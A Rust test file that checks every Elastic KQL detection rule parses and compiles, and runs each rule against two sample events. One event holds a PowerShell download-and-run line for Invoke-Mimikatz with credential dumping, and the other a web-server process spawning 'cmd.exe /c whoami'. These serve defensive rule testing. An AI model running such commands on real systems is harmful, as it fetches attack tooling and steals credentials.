//! Elastic's detection rules: every KQL (`language = "kuery"`) query compiles.

use std::path::{Path, PathBuf};

fn shared() -> PathBuf {
    std::env::var_os("QUARRY_CORPUS")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared")))
}

fn toml_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return;
    };
    let mut entries: Vec<PathBuf> = rd.flatten().map(|e| e.path()).collect();
    entries.sort();
    for p in entries {
        if p.is_dir() {
            toml_files(&p, out);
        } else if p.extension().is_some_and(|e| e == "toml") {
            out.push(p);
        }
    }
}

/// Every KQL rule: (file, rule type, query).
fn kql_rules() -> Vec<(PathBuf, String, String)> {
    let mut files = Vec::new();
    toml_files(&shared().join("rules/elastic/rules"), &mut files);
    toml_files(
        &shared().join("rules/elastic/rules_building_block"),
        &mut files,
    );
    assert!(!files.is_empty(), "no rules under {}", shared().display());
    let mut out = Vec::new();
    for f in files {
        let text = std::fs::read_to_string(&f).expect("reads");
        let doc: toml::Value =
            toml::from_str(&text).unwrap_or_else(|e| panic!("{}: {e}", f.display()));
        let rule = &doc["rule"];
        if rule.get("language").and_then(|l| l.as_str()) != Some("kuery") {
            continue;
        }
        let kind = rule
            .get("type")
            .and_then(|t| t.as_str())
            .unwrap_or_default()
            .to_string();
        let query = rule
            .get("query")
            .and_then(|q| q.as_str())
            .unwrap_or_default()
            .to_string();
        out.push((f, kind, query));
    }
    out
}

/// A Windows process start and a PowerShell script block: every compiled
/// rule is evaluated on them (no panics, whatever the fields).
fn sample_events() -> Vec<quarry_event::Event> {
    let mut p = quarry_event::Event::default();
    p.set("@timestamp", "2024-01-02T03:04:05.000Z");
    p.set("event.category", vec!["process"]);
    p.set("event.type", vec!["start"]);
    p.set("host.os.type", "windows");
    p.set("process.name", "cmd.exe");
    p.set("process.args", vec!["cmd.exe", "/c", "whoami"]);
    p.set("process.command_line", "cmd.exe /c whoami");
    p.set("process.parent.name", "w3wp.exe");
    p.set("source.ip", "10.1.2.3");
    p.set("destination.port", 443i64);
    let mut s = quarry_event::Event::default();
    s.set("event.code", "4104");
    s.set("host.os.type", "windows");
    s.set(
        "powershell.file.script_block_text",
        "IEX (New-Object Net.WebClient).DownloadString('http://x/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds",
    );
    s.set("message", "Creating Scriptblock text (1 of 1)");
    vec![p, s]
}

#[test]
#[ignore = "needs ../shared"]
fn every_elastic_kql_rule_compiles() {
    let rules = kql_rules();
    let events = sample_events();
    let opts = quarry_kql::KqlOptions::default();
    let (mut ok, mut deprecated, mut failures) = (0, 0, Vec::new());
    let mut warned_rules = 0;
    let mut unknown = std::collections::BTreeMap::<String, usize>::new();
    let mut quoted_star = std::collections::BTreeSet::new();
    let mut spaced_wildcard = std::collections::BTreeSet::new();
    for (f, _, q) in &rules {
        if f.components().any(|c| c.as_os_str() == "_deprecated") {
            deprecated += 1;
        }
        match quarry_kql::compile_with_warnings(q, &opts) {
            Ok(c) => {
                ok += 1;
                for ev in &events {
                    let _ = c.query.matches(ev);
                }
                if !c.warnings.is_empty() {
                    warned_rules += 1;
                }
                for w in &c.warnings {
                    match (&w.field, w.is_unknown_field()) {
                        (Some(field), true) => *unknown.entry(field.clone()).or_default() += 1,
                        _ if w.message().contains("is literal, not a wildcard") => {
                            quoted_star.insert(f.clone());
                        }
                        _ if w.message().contains("has whitespace") => {
                            spaced_wildcard.insert(f.clone());
                            println!("warning: {}: {w}", f.display());
                        }
                        _ => println!("warning: {}: {w}", f.display()),
                    }
                }
            }
            Err(e) => failures.push(format!("{}: {e}", f.display())),
        }
    }
    println!(
        "{} KQL rules ({} under _deprecated): {ok} compile, {} fail; {warned_rules} with warnings, {} unknown fields",
        rules.len(),
        deprecated,
        failures.len(),
        unknown.len()
    );
    println!(
        "{} rules have a quoted value with `*` (literal), {} an unquoted wildcard value with whitespace (split into words)",
        quoted_star.len(),
        spaced_wildcard.len()
    );
    for (field, n) in &unknown {
        println!("unknown field ({n} rules): {field}");
    }
    for f in &failures {
        println!("{f}");
    }
    assert!(
        failures.is_empty(),
        "{} rules do not compile",
        failures.len()
    );
}

#[test]
#[ignore = "needs ../shared"]
fn every_elastic_kql_rule_parses() {
    let rules = kql_rules();
    let mut failures = Vec::new();
    for (f, _, q) in &rules {
        if let Err(e) = quarry_kql::parser::parse(q) {
            failures.push(format!("{}: {e}", f.display()));
        }
    }
    println!("{} KQL rules, {} fail", rules.len(), failures.len());
    for f in &failures {
        println!("{f}");
    }
    assert!(failures.is_empty());
}
